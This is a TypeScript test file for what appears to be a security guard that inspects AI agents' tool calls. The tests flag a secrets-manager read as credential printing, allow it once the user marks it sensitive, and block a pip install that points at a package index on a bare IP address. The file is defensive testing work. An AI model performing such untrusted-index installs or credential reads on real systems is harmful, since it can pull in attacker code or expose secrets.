import { describe, expect, it } from 'vitest';

import { createGuard, type GuardOptions } from '@vanguard/core';

import { findingsText } from './findings-text.js';

// A tool named for a program is read as the command line its fields make; a tool the user marks sensitive is
// their declared source of secrets, so reading one is its use (data flow follows its answers instead).

let n = 0;
const call = (options: GuardOptions, name: string, args: Record<string, unknown>) =>
  createGuard(options).inspect({ jsonrpc: '2.0', id: ++n, method: 'tools/call', params: { name, arguments: args } }, { from: 'client', sessionId: `fields-${n}` });

describe('a tool named for a program', () => {
  it('is read as the line its fields make: a secrets manager read prints a credential', async () => {
    const verdict = await call({ profile: 'balanced' }, 'vault_read', { name: 'payments' });
    expect(findingsText(verdict)).toContain('cmd/credential-print');
  });

  it('is not read so when the user marks it sensitive', async () => {
    const verdict = await call({ profile: 'balanced', stateful: { sensitiveTools: ['vault_read'] } }, 'vault_read', { name: 'payments' });
    expect(verdict.action, findingsText(verdict)).toBe('allow');
  });

  it('keeps reading other program tools when one is marked', async () => {
    const verdict = await call({ profile: 'balanced', stateful: { sensitiveTools: ['vault_read'] } }, 'pip_install', { package: 'requests', index_url: 'http://198.51.100.4/simple' });
    expect(verdict.action).toBe('block');
  });
});
